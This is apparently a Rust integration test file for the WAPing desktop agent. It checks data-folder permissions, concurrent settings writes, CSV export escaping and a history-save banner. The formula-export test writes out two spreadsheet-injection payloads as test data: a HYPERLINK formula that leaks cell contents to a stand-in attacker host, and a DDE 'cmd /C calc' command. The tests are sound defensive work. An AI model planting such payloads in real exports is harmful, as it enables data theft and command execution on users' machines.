//! Another user on the same computer, and a spreadsheet opening an export:
//! the data folder and what the agent writes in it are this user's alone;
//! settings written at once by two commands keep both; a name or reason
//! from WAPing that looks like a formula is exported as text; and a banner
//! about history not being saved goes once history is saved again.

use crate::common::{self, agent_with, poll_until, state};
use std::sync::Arc;
use waping_core::alerts::SnoozeFor;
use waping_core::history::export::Format;
use waping_core::{DeviceId, SessionState, Settings};
use waping_desk_agent::commands::ask;
use waping_desk_agent::settings_file;
use waping_link::contract::args::{RenderExport, SaveSettings, SnoozeAlerts};

#[cfg(unix)]
fn mode(path: &std::path::Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    let meta = std::fs::metadata(path).unwrap_or_else(|e| panic!("{path:?}: {e}"));
    meta.permissions().mode() & 0o777
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn another_user_cannot_read_the_data_folder_settings_or_history() {
    // A folder and settings file left by an earlier version, open to all.
    let dir = common::data_dir("files-private", Some(&common::polls_when_asked()));
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
        let settings = settings_file::path(&dir);
        std::fs::set_permissions(&settings, std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    let agent = waping_desk_agent::start(dir.clone(), Arc::new(waping_desk_agent::shell::Headless))
        .await
        .expect("the agent starts");
    let service = &agent.service;
    poll_until(service, "the first poll", |o| {
        o.snapshot.updated_at.is_some()
    })
    .await;
    ask(
        service,
        SnoozeAlerts {
            device_id: Some(DeviceId::new("dev_001")),
            duration: SnoozeFor::OneHour,
        },
    )
    .await
    .expect("the snooze is taken");

    assert_eq!(mode(&dir), 0o700, "the data folder is the user's alone");
    for name in [
        "settings.json",
        "demo-history.sqlite3",
        "demo-history.sqlite3-wal",
        "demo-history.sqlite3-shm",
    ] {
        assert_eq!(mode(&dir.join(name)), 0o600, "{name} is the user's alone");
    }
    // The marker that says the history is open (a crash leaves it behind).
    let markers: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| {
            p.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with("demo-history.sqlite3.open-")
        })
        .collect();
    assert_eq!(markers.len(), 1, "{markers:?}");
    assert_eq!(
        mode(&markers[0]),
        0o600,
        "{:?} is the user's alone",
        markers[0]
    );
    agent.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn snoozes_and_settings_saved_at_the_same_moment_lose_nothing() {
    let agent = agent_with("files-concurrent", Some(&common::polls_when_asked())).await;
    let service = agent.service.clone();
    poll_until(&service, "the first poll", |o| {
        o.snapshot.updated_at.is_some()
    })
    .await;
    let file = service.shell.settings_path();
    // Rounds of 100 commands at once, the file checked after each: a lost
    // change shows in one round or another.
    for round in 0..10u32 {
        let saved = Settings {
            poll_interval_secs: common::polls_when_asked().poll_interval_secs - 1 - round,
            ..common::polls_when_asked()
        };
        let device = |i: usize| DeviceId::new(format!("dev_{round}_{i:03}"));
        let mut tasks = Vec::new();
        for i in 0..100 {
            let service = service.clone();
            let saved = saved.clone();
            let device = device(i);
            tasks.push(tokio::spawn(async move {
                if i % 20 == 10 {
                    ask(&service, SaveSettings { input: saved })
                        .await
                        .map(|_| ())
                        .expect("the settings are saved");
                } else {
                    ask(
                        &service,
                        SnoozeAlerts {
                            device_id: Some(device),
                            duration: SnoozeFor::OneHour,
                        },
                    )
                    .await
                    .map(|_| ())
                    .expect("the snooze is taken");
                }
            }));
        }
        for task in tasks {
            task.await.expect("the command ran");
        }

        let snoozed = settings_file::load_snoozes(&file).devices;
        let missing: Vec<DeviceId> = (0..100)
            .filter(|i| i % 20 != 10)
            .map(device)
            .filter(|id| !snoozed.contains_key(id))
            .collect();
        assert!(
            missing.is_empty(),
            "round {round}: snoozes lost from the file: {missing:?}"
        );
        assert_eq!(
            settings_file::load(&file),
            saved,
            "round {round}: the saved settings are in the file"
        );
        assert_eq!(service.settings(), saved, "round {round}: and running");
    }
    let left: Vec<String> = std::fs::read_dir(&service.shell.data_dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("settings") && n != "settings.json" || n.contains("partial"))
        .collect();
    assert!(left.is_empty(), "files left beside the settings: {left:?}");
    agent.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_device_named_like_a_formula_is_exported_as_text() {
    let agent = agent_with("files-formula", Some(&common::polls_when_asked())).await;
    let service = &agent.service;
    let phone = DeviceId::new("dev_001");
    let start = poll_until(service, "the first poll", |o| {
        o.snapshot.updated_at.is_some()
    })
    .await;
    assert_eq!(state(&start, &phone), Some(SessionState::Connected));
    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    let reason = "@SUM(1+1)*cmd|' /C calc'!A0";
    let sim = service
        .connection
        .demo()
        .await
        .expect("the demo runs")
        .control();
    sim.set_name(phone.as_str(), name).await.unwrap();
    sim.set_status(phone.as_str(), "disconnected", Some(reason))
        .await
        .unwrap();
    poll_until(service, "the phone to drop", |o| {
        state(o, &phone) == Some(SessionState::Disconnected)
    })
    .await;

    let now = service.shell.clock.now().timestamp_millis() as f64;
    let export = ask(
        service,
        RenderExport {
            device_id: phone.clone(),
            from: now - 3_600_000.0,
            to: now + 60_000.0,
            format: Format::Csv,
        },
    )
    .await
    .expect("the export is rendered");
    let mut reader = csv::Reader::from_reader(export.contents.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("a CSV row")).collect();
    assert!(!rows.is_empty(), "the export has rows");
    for row in &rows {
        assert_eq!(&row[1], format!("'{name}"), "the name is text: {row:?}");
        let cell = &row[5];
        assert!(
            cell.parse::<f64>().is_ok(),
            "a duration stays a number: {row:?}"
        );
    }
    let reasons: Vec<&str> = rows
        .iter()
        .map(|r| &r[6])
        .filter(|r| !r.is_empty())
        .collect();
    assert!(
        reasons.contains(&format!("'{reason}").as_str()),
        "the reason is text: {reasons:?}"
    );
    for cell in rows.iter().flat_map(|r| r.iter()) {
        assert!(
            !cell.starts_with(['=', '+', '@', '\t', '\r']),
            "a cell a spreadsheet would run: {cell:?}"
        );
    }
    agent.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_history_not_saved_banner_goes_once_history_is_saved_again() {
    let agent = agent_with("files-banner", Some(&common::polls_when_asked())).await;
    let service = &agent.service;
    let history_file = service.shell.data_dir.join("demo-history.sqlite3");
    let phone = DeviceId::new("dev_001");
    poll_until(service, "the first poll", |o| {
        o.snapshot.updated_at.is_some()
    })
    .await;
    let sim = service
        .connection
        .demo()
        .await
        .expect("the demo runs")
        .control();

    // Another program holds the write lock past the monitor's wait for it
    // (a full disk fails the write the same way).
    let locker = rusqlite::Connection::open(&history_file).unwrap();
    locker.execute_batch("BEGIN IMMEDIATE").unwrap();
    sim.set_status(phone.as_str(), "disconnected", Some("phone_offline"))
        .await
        .unwrap();
    let failed = poll_until(service, "the drop, unsaved", |o| {
        state(o, &phone) == Some(SessionState::Disconnected)
    })
    .await;
    assert!(
        failed.snapshot.history_problem.is_some(),
        "the banner says history is not saved"
    );
    locker.execute_batch("ROLLBACK").unwrap();
    drop(locker);

    sim.set_status(phone.as_str(), "connected", None)
        .await
        .unwrap();
    let saved = poll_until(service, "the phone back", |o| {
        state(o, &phone) == Some(SessionState::Connected)
    })
    .await;
    assert_eq!(
        saved.snapshot.history_problem, None,
        "the write of the phone's return went through: the banner goes"
    );
    agent.stop().await;
}
